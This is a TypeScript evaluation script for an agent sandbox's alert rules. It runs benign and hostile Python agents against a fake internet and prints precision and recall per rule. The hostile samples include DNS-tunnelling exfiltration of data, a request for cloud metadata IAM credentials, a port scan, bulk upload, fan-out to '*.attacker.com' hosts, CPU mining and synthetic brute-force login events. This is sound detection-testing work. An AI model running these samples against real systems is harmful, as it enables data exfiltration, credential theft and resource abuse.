/**
 * Alert evaluation on a labelled corpus of real executions (issue 13, "Evaluation"): benign agents
 * of several kinds run many times, then hostile ones, each with `aegis run` (crun) on this
 * machine, network agents against the fake internet (test/integration/gateway-fake-internet.ts,
 * 198.51.100.0/24, as scripts/demo-exfil.mjs does), in a throw-away AEGIS_HOME. The alerts each
 * execution raised (`alert.raised` in the log: the default pack as events are appended, the
 * baseline at the end of the run) are then compared with the labels, and a table of TP, FP, FN,
 * precision and recall per rule and for the baseline is printed.
 *
 * Brute force against the API is synthetic: there is no API yet (issue 11), so `auth.failed`
 * events shaped as the API will write them are fed to the same engine and counted separately.
 *
 *   npm run build && flock /tmp/aegis-it.lock node dist/bench/alerts-eval.js [--json] [--benign-runs 42]
 *
 * Root, crun and the python:3.11 image are needed (as for the integration tests). About 3 minutes.
 */
import { spawn } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { AlertEngine, type EngineEvent } from '../src/alerts/engine.js';
import { DEFAULT_PACK, loadRules } from '../src/alerts/load.js';
import { MIN_HISTORY } from '../src/alerts/baseline.js';
import { openAuditReader } from '../src/audit/index.js';
import { AEGIS_BIN, REPO_ROOT } from '../src/test-support/repo.js';
import { startFakeInternet, UPSTREAM_DNS } from '../test/integration/gateway-fake-internet.js';
import { ensureHugetlbMount } from '../test/integration/sandbox-conformance.js';

const BASELINE = 'aegis-baseline-anomaly';
/** Benign runs per agent: MIN_HISTORY to learn from, the rest scored by the baseline. */
const runsFlag = process.argv.indexOf('--benign-runs');
const BENIGN_RUNS = runsFlag > 0 ? Number(process.argv[runsFlag + 1]) : 42;
const json = process.argv.includes('--json');
/** Keep the work dir (agents, AEGIS_HOME with the log) for inspection; its path is printed. */
const keep = process.argv.includes('--keep');

/** The agents: a manifest and a main.py that takes a mode and a seed (argv). */
const AGENTS: Record<string, { manifest: string; code: string }> = {
  'eval-hello': {
    manifest: `memory: 512MiB`,
    code: `
import sys
mode = sys.argv[1]
print("hello", sys.argv[2])
if mode == "hog":  # behaviour change: holds 300 MB (under its limit)
    blob = bytearray(300 * 1024 * 1024)
    for i in range(0, len(blob), 4096): blob[i] = 1
    print("held", len(blob))
`,
  },
  'eval-data': {
    manifest: `memory: 256MiB`,
    code: `
import hashlib, json, random, sys, time
mode, seed = sys.argv[1], int(sys.argv[2])
rnd = random.Random(seed)
rows = [{"id": i, "v": rnd.random(), "k": rnd.choice("abcdef")} for i in range(20000 + rnd.randrange(5000))]
rows.sort(key=lambda r: r["v"])
agg = {}
for r in rows: agg[r["k"]] = agg.get(r["k"], 0) + r["v"]
print(json.dumps({k: round(v, 2) for k, v in sorted(agg.items())}))
if mode == "mine":  # behaviour change: burns CPU for about 4 s (hashing, as a miner would)
    h, t = b"x", time.time()
    while time.time() - t < 4: h = hashlib.sha256(h).digest()
    print("mined", h.hex()[:8])
`,
  },
  'eval-slow': {
    manifest: `memory: 128MiB`,
    code: `
import random, sys, time
rnd = random.Random(int(sys.argv[2]))
time.sleep(1.0 + rnd.random() * 0.3)
print("waited")
`,
  },
  'eval-api': {
    manifest: `network:\n    allow: ["api.openai.com"]\n  fs:\n    read: ["/data"]\n  memory: 256MiB`,
    code: `
import random, sys, urllib.request
mode, seed = sys.argv[1], int(sys.argv[2])
rnd = random.Random(seed)
def get(url, data=None, timeout=5):
    with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=timeout) as r:
        return r.status, len(r.read())
for _ in range(1 + rnd.randrange(2)):
    print(get("https://api.openai.com/v1/models"))
if mode == "upload":  # behaviour change: sends 8 MB to its allowed API (exfiltration over an allowed host)
    print(get("https://api.openai.com/v1/files", data=b"s" * (8 * 1024 * 1024), timeout=30))
if mode == "newhosts":  # behaviour change: suddenly tries many hosts its policy does not allow
    for i in range(12):
        try: get(f"https://host{i}.example.net/", timeout=3)
        except Exception as e: print("refused", i, type(e).__name__)
`,
  },
  'eval-bursty': {
    // The fake internet's wildcard zone stands for a CDN (any name under it resolves).
    manifest: `network:\n    allow: ["api.openai.com", "*.attacker.com"]\n  fs:\n    read: ["/data"]\n  memory: 256MiB`,
    code: `
import random, sys, time, urllib.request
mode, seed = sys.argv[1], int(sys.argv[2])
rnd = random.Random(seed)
def get(url):
    with urllib.request.urlopen(url, timeout=5) as r:
        return len(r.read())
n = rnd.choice([0, 1, 1, 2, 3, 5, 8])
for i in range(n):
    print(get(f"https://cdn{rnd.randrange(3)}.attacker.com/bytes/{rnd.randrange(1000, 200000)}"))
    time.sleep(rnd.random() * 0.1)
if mode == "fanout":  # behaviour change: talks to 20 new hosts, all allowed by its wildcard
    for i in range(20): print(get(f"https://n{seed}x{i}.attacker.com/bytes/500"))
`,
  },
  'eval-tunnel': {
    manifest: `network:\n    allow: ["api.openai.com"]\n  memory: 128MiB`,
    code: `
import base64, socket
data = b"the secret quarterly numbers, exfiltrated through DNS labels " * 8
for i in range(0, 30):
    label = base64.b32encode(data[i * 30:(i + 1) * 30]).decode().strip("=").lower()[:48] or "x"
    try: socket.getaddrinfo(f"{label}.t{i}.tunnel.example.org", 443)
    except OSError as e: print("refused", i)
`,
  },
  'eval-metadata': {
    manifest: `network:\n    allow: ["api.openai.com"]\n  memory: 128MiB`,
    code: `
import urllib.request
url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
for proxies in (None, {}):  # through the proxy the agent is given, then directly
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies) if proxies is not None else urllib.request.ProxyHandler())
    try: print("REACHED", opener.open(url, timeout=3).status)
    except Exception as e: print("blocked", type(e).__name__)
`,
  },
  'eval-scan': {
    manifest: `network:\n    allow: ["api.openai.com"]\n  memory: 128MiB`,
    code: `
import socket
for port in range(20, 45):
    s = socket.socket(); s.settimeout(1)
    try: s.connect(("198.51.100.66", port)); print("open", port)
    except OSError: pass
    finally: s.close()
print("scanned")
`,
  },
  'eval-oom': {
    manifest: `memory: 64MiB`,
    code: `
blob = bytearray(256 * 1024 * 1024)
for i in range(0, len(blob), 4096): blob[i] = 1
print("survived")
`,
  },
  'eval-timeout': {
    manifest: `execution_time: 2s\n  memory: 64MiB`,
    code: `
while True: pass
`,
  },
};

interface Case {
  readonly agent: string;
  readonly file: string;
  readonly mode: string;
  readonly label: 'benign' | 'hostile';
  /** Hostile: the rules meant to catch it (the baseline for behaviour changes). */
  readonly expect: readonly string[];
  readonly name: string;
}

interface Outcome extends Case {
  readonly execution: string;
  readonly status: string;
  readonly alerts: readonly string[];
  /** Whether the baseline had its minimum history when this execution ended. */
  readonly baselineReady: boolean;
}

function writeAgents(dir: string): Record<string, string> {
  const files: Record<string, string> = {};
  for (const [name, a] of Object.entries(AGENTS)) {
    const d = join(dir, name);
    mkdirSync(d);
    chmodSync(d, 0o755);
    writeFileSync(join(d, 'main.py'), a.code.trimStart());
    const perms = a.manifest.includes('fs:') ? a.manifest : `${a.manifest}\n  fs:\n    read: ["/data"]`;
    const env = a.manifest.includes('network:') ? `  env:\n    SSL_CERT_FILE: /data/ca.pem\n` : '';
    writeFileSync(
      join(d, 'agent.yaml'),
      `version: "1.0"\nagent:\n  name: ${name}\n  runtime: "python:3.11"\n  entrypoint: ["python3", "main.py"]\n  isolation: crun\n${env}permissions:\n  ${perms}\n`,
    );
    files[name] = join(d, 'agent.yaml');
  }
  return files;
}

function aegisRun(env: NodeJS.ProcessEnv, file: string, volume: string, summary: string, args: string[]): Promise<string> {
  return new Promise((resolve) => {
    const c = spawn(process.execPath, [AEGIS_BIN, 'run', '--volume', volume, '--summary', summary, file, ...args], {
      env,
      stdio: ['ignore', 'ignore', 'pipe'],
      timeout: 90_000,
    });
    let err = '';
    c.stderr.on('data', (d: Buffer) => (err += d.toString()));
    c.on('close', () => resolve(err));
  });
}

/** Runs `cases` with at most `width` at a time; the order of starts is the order given. */
async function runAll(cases: readonly Case[], width: number, one: (c: Case, i: number) => Promise<Outcome>): Promise<Outcome[]> {
  const out: Outcome[] = new Array<Outcome>(cases.length);
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < cases.length) {
      const i = next++;
      out[i] = await one(cases[i]!, i);
    }
  };
  await Promise.all(Array.from({ length: width }, worker));
  return out;
}

/** `auth.failed` as the API will write it (synthetic: no API yet). */
function syntheticAuth(): Array<{ name: string; label: 'benign' | 'hostile'; expect: string[]; events: EngineEvent[] }> {
  const t0 = Date.UTC(2026, 10, 30, 3);
  const ev = (i: number, ms: number, payload: Record<string, unknown>): EngineEvent => ({
    id: `s${i}`,
    time: new Date(t0 + ms).toISOString(),
    action: 'auth.failed',
    decision: 'deny',
    reason: 'auth.invalid_key',
    actor: {},
    payload,
  });
  const cases: Array<{ name: string; label: 'benign' | 'hostile'; expect: string[]; events: EngineEvent[] }> = [];
  // Benign: 30 users, each mistypes once or twice, minutes apart, from their own address.
  for (let u = 0; u < 30; u++)
    cases.push({
      name: `synthetic: user ${u} mistypes a key`,
      label: 'benign',
      expect: [],
      events: Array.from({ length: 1 + (u % 2) }, (_, i) =>
        ev(u * 10 + i, u * 600_000 + i * 90_000, { source: `10.1.0.${u}`, keyId: `key-${u}` }),
      ),
    });
  cases.push({
    name: 'synthetic: brute force, one key, 40 tries in 20 s',
    label: 'hostile',
    expect: ['aegis-auth-failed-burst'],
    events: Array.from({ length: 40 }, (_, i) => ev(1000 + i, 40_000_000 + i * 500, { source: '203.0.113.9', keyId: 'key-admin' })),
  });
  cases.push({
    name: 'synthetic: key spraying, 6 keys over 5 minutes',
    label: 'hostile',
    expect: ['aegis-auth-many-keys'],
    events: Array.from({ length: 6 }, (_, i) => ev(2000 + i, 50_000_000 + i * 60_000, { source: '203.0.113.10', keyId: `key-${i}` })),
  });
  return cases;
}

const pct = (n: number, d: number): string => (d === 0 ? '-' : `${Math.round((n / d) * 1000) / 10} %`);

async function main(): Promise<void> {
  const started = performance.now();
  ensureHugetlbMount();
  const work = mkdtempSync('/var/tmp/aegis-eval-');
  chmodSync(work, 0o755);
  const home = join(work, 'home');
  mkdirSync(home, { mode: 0o700 });
  const files = writeAgents(work);
  const inet = await startFakeInternet();
  try {
    // The default pack and the baseline with its defaults, whatever this shell sets.
    const env: NodeJS.ProcessEnv = { ...process.env, AEGIS_HOME: home, AEGIS_UPSTREAM_DNS: `${UPSTREAM_DNS}:53` };
    for (const k of ['AEGIS_ALERT_RULES', 'AEGIS_BASELINE', 'AEGIS_BASELINE_MIN_HISTORY', 'AEGIS_AUDIT_STORE']) delete env[k];
    const cases: Case[] = [];
    // Benign: interleaved so concurrent runs mix kinds, as on a real host.
    for (let i = 0; i < BENIGN_RUNS; i++)
      for (const agent of ['eval-hello', 'eval-data', 'eval-slow', 'eval-api', 'eval-bursty'])
        cases.push({ agent, file: files[agent]!, mode: 'normal', label: 'benign', expect: [], name: `${agent} normal` });
    const hostile = (agent: string, mode: string, expect: string[], name: string, file = files[agent]!): Case => ({
      agent,
      file,
      mode,
      label: 'hostile',
      expect,
      name,
    });
    const hostileCases: Case[] = [
      hostile(
        'exfil-demo',
        '',
        ['aegis-policy-denial', 'aegis-net-denial-burst'],
        'exfiltration demo (examples/exfil-demo)',
        join(REPO_ROOT, 'examples', 'exfil-demo', 'agent.yaml'),
      ),
      hostile(
        'eval-tunnel',
        'x',
        ['aegis-dns-tunnel-label', 'aegis-dns-tunnel-names', 'aegis-dns-tunnel-summary'],
        'DNS tunnelling (30 long labels)',
      ),
      hostile('eval-metadata', 'x', ['aegis-metadata-address'], 'cloud metadata address'),
      hostile('eval-scan', 'x', ['aegis-policy-denial', 'aegis-net-blocked-scan'], 'port scan of one host'),
      hostile('eval-oom', 'x', ['aegis-resource-limit'], 'memory abuse (OOM)'),
      hostile('eval-timeout', 'x', ['aegis-resource-limit'], 'CPU abuse (busy loop to the timeout)'),
      hostile('eval-api', 'newhosts', ['aegis-policy-denial', 'aegis-net-denial-burst', BASELINE], 'api caller tries 12 new hosts'),
      hostile('eval-api', 'upload', [BASELINE], 'api caller uploads 8 MB to its allowed API'),
      hostile('eval-bursty', 'fanout', [BASELINE], 'bursty agent talks to 20 new (allowed) hosts'),
      hostile('eval-data', 'mine', [BASELINE], 'data processor burns CPU for 4 s'),
      hostile('eval-hello', 'hog', [BASELINE], 'hello holds 300 MB'),
      hostile('eval-bursty', 'fanout', [BASELINE], 'bursty agent talks to 20 new (allowed) hosts, again'),
      hostile('eval-data', 'mine', [BASELINE], 'data processor burns CPU, again'),
    ];
    const volume = `${inet.dir}:/data:ro`;
    const seen = new Map<string, number>();
    const one = async (c: Case, i: number): Promise<Outcome> => {
      const summary = join(work, `summary-${i}.json`);
      const n = (seen.get(c.agent) ?? 0) + 1;
      seen.set(c.agent, n);
      const stderr = await aegisRun(env, c.file, volume, summary, c.mode === '' ? [] : [c.mode, String(i)]);
      let s: { executionId: string; status: string; exitCode: number };
      try {
        s = JSON.parse(readFileSync(summary, 'utf8')) as { executionId: string; status: string; exitCode: number };
      } catch {
        throw new Error(`run ${i} (${c.name}) left no summary: ${stderr}`);
      }
      if (c.label === 'benign' && s.status !== 'exited') throw new Error(`benign run ${c.name} ended ${s.status}: ${stderr}`);
      if (c.label === 'benign' && s.exitCode !== 0) throw new Error(`benign run ${c.name} exited ${s.exitCode}: ${stderr}`);
      return { ...c, execution: s.executionId, status: `${s.status} ${s.exitCode}`, alerts: [], baselineReady: n > MIN_HISTORY };
    };
    // The first run alone: it creates the log's keys (two first runs at once would race for them).
    const benignOut = [...(await runAll(cases.slice(0, 1), 1, one)), ...(await runAll(cases.slice(1), 2, (c, i) => one(c, i + 1)))];
    const hostileOut = await runAll(hostileCases, 1, (c, i) => one(c, cases.length + i));
    const runSeconds = (performance.now() - started) / 1000;

    // The alerts of each execution, from the log.
    const fired = new Map<string, Set<string>>();
    const reader = await openAuditReader({ home, env: {} });
    try {
      for await (const r of reader.read(0)) {
        const e = r.decoded?.event;
        if (e?.action !== 'alert.raised' || e.actor.execution === undefined) continue;
        const rule = (e.payload as { rule?: unknown } | null)?.rule;
        if (typeof rule !== 'string') continue;
        let s = fired.get(e.actor.execution);
        if (s === undefined) fired.set(e.actor.execution, (s = new Set()));
        s.add(rule);
      }
    } finally {
      await reader.close();
    }
    const outcomes: Outcome[] = [...benignOut, ...hostileOut].map((o) => ({ ...o, alerts: [...(fired.get(o.execution) ?? [])].sort() }));
    // Synthetic brute force through the same engine and pack.
    const rules = await loadRules([DEFAULT_PACK]);
    for (const s of syntheticAuth()) {
      const engine = new AlertEngine(rules);
      const alerts = [...new Set(s.events.flatMap((e) => engine.evaluate(e)).map((a) => a.rule.id))].sort();
      outcomes.push({
        agent: 'synthetic',
        file: '',
        mode: '',
        label: s.label,
        expect: s.expect,
        name: s.name,
        execution: '-',
        status: 'synthetic',
        alerts,
        baselineReady: false,
      });
    }

    // Per rule: TP = hostile cases labelled with it where it fired; FN = labelled, not fired;
    // FP = benign cases where it fired. Hostile cases it fired on without the label are "also".
    const ruleIds = [...rules.map((r) => r.id), BASELINE].filter(
      (id) => id !== 'aegis-net-denial' && id !== 'aegis-auth-failed' && id !== 'aegis-dns-refused',
    );
    const benign = outcomes.filter((o) => o.label === 'benign');
    const hostileAll = outcomes.filter((o) => o.label === 'hostile');
    const rows = ruleIds.map((id) => {
      const scope = id === BASELINE ? benign.filter((o) => o.baselineReady) : benign;
      const tp = hostileAll.filter((o) => o.expect.includes(id) && o.alerts.includes(id)).length;
      const fn = hostileAll.filter((o) => o.expect.includes(id) && !o.alerts.includes(id)).length;
      const fp = scope.filter((o) => o.alerts.includes(id)).length;
      const also = hostileAll.filter((o) => !o.expect.includes(id) && o.alerts.includes(id)).length;
      return { rule: id, tp, fp, fn, also, benign: scope.length, precision: pct(tp, tp + fp), recall: pct(tp, tp + fn) };
    });
    const packIds = new Set(rules.map((r) => r.id));
    const summary = {
      benignExecutions: benign.length,
      realBenign: benign.filter((o) => o.agent !== 'synthetic').length,
      hostileExecutions: hostileAll.length,
      hostileWithAlert: hostileAll.filter((o) => o.alerts.length > 0).length,
      benignWithPackAlert: benign.filter((o) => o.alerts.some((a) => packIds.has(a))).length,
      baselineScoredBenign: benign.filter((o) => o.baselineReady).length,
      baselineFalseAlerts: benign.filter((o) => o.baselineReady && o.alerts.includes(BASELINE)).length,
      runSeconds: Math.round(runSeconds),
    };
    if (json) {
      console.log(JSON.stringify({ summary, rows, outcomes }, null, 2));
      return;
    }
    console.log(`| rule | TP | FP | FN | precision | recall | also fired on other hostile cases |`);
    console.log(`|---|---|---|---|---|---|---|`);
    for (const r of rows) console.log(`| \`${r.rule}\` | ${r.tp} | ${r.fp} | ${r.fn} | ${r.precision} | ${r.recall} | ${r.also} |`);
    console.log('');
    console.log(`| hostile case | status | expected | alerts raised |`);
    console.log(`|---|---|---|---|`);
    for (const o of hostileAll) console.log(`| ${o.name} | ${o.status} | ${o.expect.join(', ')} | ${o.alerts.join(', ') || '**none**'} |`);
    console.log('');
    const noisy = benign.filter((o) => o.alerts.length > 0);
    for (const o of noisy) console.log(`benign with an alert: ${o.name} ${o.execution}: ${o.alerts.join(', ')}`);
    console.log(
      `benign executions: ${summary.benignExecutions} (${summary.realBenign} real runs of 5 agents, 30 synthetic); ` +
        `with a default-pack alert: ${summary.benignWithPackAlert}\n` +
        `hostile executions: ${summary.hostileExecutions}; with at least one alert: ${summary.hostileWithAlert}\n` +
        `baseline: ${summary.baselineFalseAlerts} false alert(s) on ${summary.baselineScoredBenign} benign runs scored with a full history ` +
        `(${pct(summary.baselineFalseAlerts, summary.baselineScoredBenign)})\n` +
        `run time: ${summary.runSeconds} s`,
    );
  } finally {
    await inet.close();
    if (keep) console.error(`kept ${work} (AEGIS_HOME=${home})`);
    else rmSync(work, { recursive: true, force: true });
  }
}

await main();
